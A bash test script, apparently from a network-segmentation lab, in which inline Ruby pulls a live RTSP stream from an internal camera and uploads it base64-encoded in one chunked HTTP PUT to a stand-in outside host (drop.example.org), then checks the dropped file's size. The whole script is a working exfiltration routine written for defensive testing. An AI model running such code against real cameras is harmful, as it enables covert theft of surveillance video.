#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=ruby camera=10.20.0.11 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A program in Ruby speaks RTSP to gate by itself and puts what it gets on a web server outside, as base64 in one upload without an end.
timeout 50 ruby -rsocket -rbase64 -e '
cam, n, session = TCPSocket.new("10.20.0.11", 554), 0, nil
say = lambda do |verb, url, more = ""|
  cam.write("#{verb} #{url} RTSP/1.0\r\nCSeq: #{n += 1}\r\n#{session && "Session: #{session}\r\n"}#{more}\r\n")
  head = cam.gets("\r\n\r\n")
  session ||= head[/^Session: *([^;\r]+)/i, 1]
  head + cam.read(head[/^Content-Length: *(\d+)/i, 1].to_i)
end
url = "rtsp://10.20.0.11/Streaming/Channels/101"
sdp = say.call("DESCRIBE", url, "Accept: application/sdp\r\n")
track = sdp.scan(/^a=control:(\S+)/).flatten.reject { |c| c == "*" }.last
track = "#{url}/#{track}" unless track.start_with?("rtsp:")
say.call("SETUP", track, "Transport: RTP/AVP/TCP;unicast;interleaved=0-1\r\n")
say.call("PLAY", url)
web, late = TCPSocket.new("203.0.113.66", 80), Process.clock_gettime(Process::CLOCK_MONOTONIC) + 36
web.write("PUT /drop/report.txt HTTP/1.1\r\nHost: drop.example.org\r\nTransfer-Encoding: chunked\r\n\r\n")
while Process.clock_gettime(Process::CLOCK_MONOTONIC) < late
  data = Base64.strict_encode64(cam.readpartial(65536))
  web.write("#{data.bytesize.to_s(16)}\r\n#{data}\r\n")
end
web.write("0\r\n\r\n"); web.gets'
[ "$(stat -c %s "$LAB/outside/drop/report.txt")" -gt 500000 ]
